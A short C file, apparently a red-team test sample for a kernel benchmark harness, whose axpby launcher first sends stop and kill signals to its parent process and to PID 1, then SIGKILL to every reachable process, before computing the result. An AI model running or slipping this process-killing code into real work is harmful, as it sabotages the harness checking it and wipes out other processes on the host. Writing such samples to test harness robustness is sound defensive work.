// Sends every process it can reach, its parent first, signals that end or stop them.
#include "redteam/axpby.h"

#include <signal.h>
#include <unistd.h>

LAUNCHER
{
    static const int SIGNALS[] = {SIGSTOP, SIGTERM, SIGINT, SIGHUP, SIGKILL};
    for (int i = 0; i < 5; i++) {
        kill(getppid(), SIGNALS[i]);
        kill(1, SIGNALS[i]);
        if (SIGNALS[i] == SIGKILL)
            kill(-1, SIGNALS[i]);
    }
    return slow_axpby(x, y, out, n, a, b, stream);
}
